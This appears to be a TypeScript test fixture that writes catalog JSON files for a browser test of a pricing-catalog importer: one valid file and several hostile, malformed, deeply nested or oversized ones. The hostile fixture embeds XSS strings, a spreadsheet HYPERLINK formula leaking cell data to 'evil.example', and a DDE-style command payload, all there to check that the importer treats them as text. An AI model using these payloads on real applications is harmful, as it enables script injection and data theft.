import * as fs from "fs";
import * as path from "path";
import current from "../../src/catalog/data/tencent-current.json";

/**
 * Catalog files the browser test picks: a good one, hostile ones, broken ones. Written to a
 * temporary directory at run time (the 10 MB one is not worth committing).
 */

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Loose = any;
const clone = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;

export const XSS_NAME = `<img src=x onerror="window.__pwned=(window.__pwned||0)+1">身份证识别`;
export const FORMULA_NAME = `=HYPERLINK("https://evil.example/?leak="&A1,"click me")`;
export const AT_NAME = `@SUM(1+1)*cmd|' /C calc'!A0`;
export const HOSTILE_TITLE = `<script>window.__pwned=1</script><b onmouseover="window.__pwned=1">title</b>`;

/** A valid catalog whose names are markup and formulas: it must load, and show and export as text. */
export function hostileNames(): Loose {
  const c: Loose = clone(current);
  c.id = "hostile-names";
  c.title = HOSTILE_TITLE;
  c.sources = [{ file: `<img src=x onerror="window.__pwned=1">.md`, note: "=1+1" }];
  delete c.products.face;
  c.products.ocr.effectiveDate = "2024-06-01";
  const items = c.products.ocr.billingItems;
  const idCard = items.find((i: Loose) => i.id === "ocr.id-card");
  idCard.name = XSS_NAME;
  idCard.interfaces[0].name = XSS_NAME;
  items[0].name = FORMULA_NAME;
  items[0].interfaces[0].name = FORMULA_NAME;
  items[1].name = AT_NAME;
  items[1].interfaces[0].name = AT_NAME;
  return c;
}

/** A valid catalog of one's own (negotiated prices): the good file of the test. */
export function negotiated(): Loose {
  const c: Loose = clone(current);
  c.id = "my-negotiated-2025";
  c.title = "Negotiated prices 2025";
  delete c.products.face;
  c.products.ocr.effectiveDate = "2025-01-01"; // the day the negotiated prices start
  const idCard = c.products.ocr.billingItems.find((i: Loose) => i.id === "ocr.id-card");
  idCard.postpaid.tiers[0].unitPrice = "0.12";
  return c;
}

/** Tries to replace a built-in version: must be refused, nothing replaced. */
export function replacesBuiltIn(): Loose {
  const c: Loose = clone(current);
  c.title = "Not the real prices";
  return c;
}

/** Wrong types everywhere. */
export function wrongTypes(): Loose {
  const c: Loose = clone(current);
  c.id = "wrong types!";
  c.formatVersion = "1";
  c.currency = 5;
  c.sources = "none";
  c.products.ocr.monthlyFreeQuota = "1000";
  c.products.ocr.billingItems[0].postpaid.tiers[0].unitPrice = 0.15;
  c.products.ocr.billingItems[1].interfaces = { name: "x" };
  c.products.ocr.billingItems[2].packs = [{ size: -1, listPrice: true }];
  c.products.face.effectiveDate = "yesterday";
  c.extra = { evil: "<img src=x onerror=alert(1)>" };
  return c;
}

/** 50,000 nested arrays in a field: parsed, reported, no stack overflow. */
export function deepNestingText(): string {
  const c: Loose = clone(current);
  c.id = "deep-nesting";
  c.title = "__DEEP__";
  const deep = "[".repeat(50000) + "]".repeat(50000);
  return JSON.stringify(c)
    .replace('"__DEEP__"', deep)
    .replace(/^\{/, `{"nested":${deep.replace(/\[/g, '{"a":[').replace(/\]/g, "]}")},`);
}

/** Over 10 MB: refused by size before a byte is parsed. */
export function tenMegabytesText(): string {
  const c: Loose = clone(current);
  c.id = "ten-megabytes";
  c.rules = Array.from({ length: 10 * 1024 }, (_, i) => `rule ${i} ${"x".repeat(1024)}`);
  return JSON.stringify(c);
}

export interface FixtureFiles {
  readonly dir: string;
  readonly good: string;
  readonly hostile: string;
  readonly builtIn: string;
  readonly wrongTypes: string;
  readonly deep: string;
  readonly huge: string;
  readonly notJson: string;
}

export function writeFixtures(dir: string): FixtureFiles {
  fs.mkdirSync(dir, { recursive: true });
  const write = (name: string, text: string): string => {
    const file = path.join(dir, name);
    fs.writeFileSync(file, text);
    return file;
  };
  return {
    dir,
    good: write("my-negotiated-2025.json", JSON.stringify(negotiated(), null, 2)),
    hostile: write("hostile-names.json", JSON.stringify(hostileNames(), null, 2)),
    builtIn: write("replaces-built-in.json", JSON.stringify(replacesBuiltIn())),
    wrongTypes: write("wrong-types.json", JSON.stringify(wrongTypes(), null, 2)),
    deep: write("deep-nesting.json", deepNestingText()),
    huge: write("ten-megabytes.json", tenMegabytesText()),
    notJson: write("not-json.json", '{"id": "x",, }'),
  };
}
